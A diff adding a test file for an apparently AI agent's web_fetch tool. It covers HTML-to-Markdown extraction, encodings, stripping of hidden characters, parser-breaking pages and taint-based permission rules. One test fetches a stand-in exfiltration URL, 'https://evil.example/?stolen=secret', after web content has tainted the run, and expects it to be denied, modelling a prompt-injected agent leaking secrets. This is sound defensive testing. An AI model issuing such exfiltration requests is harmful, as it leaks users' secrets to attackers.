@@ -1,0 +1,178 @@
+import { describe, expect, it } from "vitest";
+import { createWebFetchTool, FetchError, type FetchedResource, linksIn, pageText } from "../src/index.ts";
+import { caller } from "./harness.ts";
+
+function page(
+  html: string | Uint8Array,
+  contentType = "text/html; charset=utf-8",
+  url = "https://example.com/a/b",
+) {
+  return { url, contentType, bytes: typeof html === "string" ? Buffer.from(html) : html };
+}
+
+const words = "The quick brown fox jumps over the lazy dog, and then it thinks about it for a while. ".repeat(
+  8,
+);
+
+describe("the text of a page", { timeout: 60_000 }, () => {
+  it("is its article as Markdown, with whole links and without what stands around it", async () => {
+    const { title, text, cut } = await pageText(
+      page(`<!doctype html><html><head><title>A &amp; B</title><style>p{}</style></head><body>
+        <nav><a href="/home">Home</a><a href="/about">About us</a></nav>
+        <article><h1>A & B</h1><h2>First</h2><p>${words}</p><p>See <a href="../c?x=1#y">the other (page)</a> and
+        <a href="javascript:alert(1)">this</a>. <img src="http://10.0.0.1/x.png" alt="a cat"></p>
+        <ul><li>one</li><li>two</li></ul><pre><code>const a = 1;
+  b();</code></pre><script>alert("no")</script><p>${words}</p></article>
+        <footer>Cookies</footer></body></html>`),
+    );
+    expect(title).toBe("A & B");
+    expect(text).toContain("## First");
+    expect(text).toContain("[the other (page)](https://example.com/c?x=1#y)");
+    expect(text).toContain("[picture: a cat]");
+    expect(text).toContain("```\nconst a = 1;\n  b();\n```");
+    expect(text).toMatch(/- +one/);
+    for (const gone of ["alert", "10.0.0.1", "About us", "Cookies", "<"]) expect(text).not.toContain(gone);
+    expect(cut).toBe(false);
+  });
+
+  it("is cut where it is long, and never within a character", async () => {
+    const { text, cut } = await pageText(page("😀".repeat(100), "text/plain"), { maxChars: 11 });
+    expect(text.startsWith("😀".repeat(5))).toBe(true);
+    expect([text.isWellFormed(), text.length, cut]).toEqual([true, 11, true]);
+  });
+
+  it("is all of the words where the article takes too long to find", async () => {
+    const { text, title } = await pageText(
+      page(`<title>T &lt;</title><script>no()</script><nav>Menu</nav><p>${words}</p><b>&#x4f60;&amp;</b>`),
+      { parseMs: 0 },
+    );
+    expect(title).toBe("T <");
+    expect(text).toMatch(/^Menu\s+The quick/);
+    expect(text.endsWith("你&")).toBe(true);
+  });
+
+  it("is read in the page's own encoding", async () => {
+    const gbk = Buffer.concat([
+      Buffer.from('<html><head><meta charset="gbk"></head><body><p>'),
+      Buffer.from([0xc4, 0xe3, 0xba, 0xc3]),
+      Buffer.from("</p></body></html>"),
+    ]);
+    expect((await pageText(page(gbk, "text/html"))).text).toBe("你好");
+    expect((await pageText(page(Buffer.from([0xe9]), "text/plain; charset=iso-8859-1"))).text).toBe("é");
+    expect((await pageText(page("x", "text/plain; charset=no-such-thing"))).text).toBe("x");
+  });
+
+  it("holds nothing that hides or turns text around", async () => {
+    const { text } = await pageText(page("a\u202Eb\u200Bc\u0000d\u2066e\uFEFF", "text/plain"));
+    expect(text).toBe("abcde");
+  });
+
+  it("is there for texts of other kinds, and not for pictures and files", async () => {
+    expect((await pageText(page('{"a": 1}', "application/json"))).text).toBe('{"a": 1}');
+    expect((await pageText(page("<a>1</a>", "application/atom+xml"))).text).toBe("<a>1</a>");
+    expect((await pageText(page("words", ""))).text).toBe("words");
+    for (const type of ["image/png", "application/pdf", "application/octet-stream", "video/mp4"])
+      await expect(pageText(page("x", type))).rejects.toThrow(type);
+    await expect(pageText(page("a\u0000b", ""))).rejects.toBeInstanceOf(FetchError);
+  });
+
+  it("comes also from pages made to break parsers", async () => {
+    const hostile = [
+      `${"<div>".repeat(150_000)}${words}`,
+      "<a href=x>".repeat(20_000),
+      `<p>${words}</p>`.repeat(2_000),
+      "<table><tr><td>".repeat(5_000),
+      `<p>${" ".repeat(900_000)}x</p>`,
+      `<p>${"&".repeat(900_000)}</p>`,
+      `<p>${"<".repeat(900_000)}</p>`,
+      `<title${" ".repeat(900_000)}`,
+      `<${"a".repeat(900_000)}>${words}`,
+      `<p ${"a=1 ".repeat(200_000)}>${words}</p>`,
+      `<script>${"</scrip".repeat(100_000)}`,
+      `<!--${"-".repeat(900_000)}`,
+      `<p>${"[](".repeat(100_000)}</p>`,
+      `<p>${"*_`#".repeat(100_000)}</p>`,
+      `<p>${",".repeat(900_000)}</p>`,
+      `<ul>${"<li>x".repeat(14_000)}</ul>`,
+      `<p>${"x<br>".repeat(14_000)}</p>`,
+    ];
+    for (const html of hostile) {
+      const { text } = await pageText(page(html), { parseMs: 400 });
+      expect(text.length, html.slice(0, 30)).toBeLessThanOrEqual(20_000);
+      if (html.includes(words)) expect(text, html.slice(0, 30)).toContain("quick brown fox");
+    }
+  });
+});
+
+it("finds links in running text, without the punctuation around them", () => {
+  const text =
+    "看 https://example.com/a，还有（https://example.com/b）。 See (https://en.wikipedia.org/wiki/A_(b)), <http://c.example/?q=1&r=2>, https://example.com/a#part and [x](https://d.example/x). ftp://no https:// httpx://no **https://e.example**";
+  expect(linksIn(text)).toEqual([
+    "https://example.com/a",
+    "https://example.com/b",
+    "https://en.wikipedia.org/wiki/A_(b)",
+    "http://c.example/?q=1&r=2",
+    "https://d.example/x",
+    "https://e.example",
+  ]);
+  expect(
+    linksIn("https://a.example ".repeat(9).concat("https://b.example https://c.example"), 2),
+  ).toHaveLength(2);
+  expect(linksIn(`https://a.example/${")".repeat(1_000_000)}`)).toEqual([]);
+});
+
+describe("web_fetch", () => {
+  const pages: Record<string, FetchedResource> = {
+    "https://example.com/": page(
+      `<html><head><title>T</title></head><body><p>${words}</p><p><a href="https://example.com/next">next</a></p></body></html>`,
+      "text/html",
+      "https://example.com/",
+    ),
+  };
+  const asked: string[] = [];
+  const tool = () =>
+    createWebFetchTool({
+      maxChars: 500,
+      fetch: async (url) => {
+        asked.push(url);
+        const found = pages[url];
+        if (found === undefined) throw new FetchError("network", "There is no such host.");
+        return found;
+      },
+      isGiven: (url) => url === "https://given.example/",
+    });
+  const textOf = (result: Awaited<ReturnType<ReturnType<typeof caller>["call"]>>) =>
+    result.content.flatMap((block) => (block.type === "text" ? [block.text] : [])).join("");
+
+  it("gives a page in parts and taints the run", async () => {
+    const { call, state } = caller([tool()]);
+    const first = await call("web_fetch", { url: "https://example.com/" });
+    expect(textOf(first)).toMatch(/^From https:\/\/example\.com\/\nTitle: T\n\nThe quick/);
+    expect(textOf(first)).toContain("[There is more; go on with offset=500]");
+    expect(state.facts.taint).toEqual([{ source: "web", detail: "web_fetch" }]);
+    const second = await call("web_fetch", { url: "https://example.com/", offset: 500 });
+    expect(textOf(second)).toContain("[next](https://example.com/next)");
+    expect(textOf(await call("web_fetch", { url: "https://example.com/", offset: 5_000 }))).toContain(
+      "ends before",
+    );
+  });
+
+  it("asks before a tainted run fetches an address that nobody gave it", async () => {
+    const { call, records } = caller([tool()]);
+    await call("web_fetch", { url: "https://example.com/" });
+    await call("web_fetch", { url: "https://example.com/", offset: 500 });
+    asked.length = 0;
+    await call("web_fetch", { url: "https://evil.example/?stolen=secret" });
+    expect(records.at(-1)).toMatchObject({ decision: "deny", rule: "taint.fetch-unseen" });
+    expect(asked).toEqual([]);
+    await call("web_fetch", { url: "https://example.com/next#part" });
+    await call("web_fetch", { url: "https://given.example/" });
+    expect(asked).toEqual(["https://example.com/next#part", "https://given.example/"]);
+  });
+
+  it("is nothing for guests", async () => {
+    const { call, records } = caller([tool()], { facts: { role: "guest" } });
+    await call("web_fetch", { url: "https://example.com/" });
+    expect(records.at(-1)).toMatchObject({ decision: "deny", rule: "role.guest.allow" });
+  });
+});
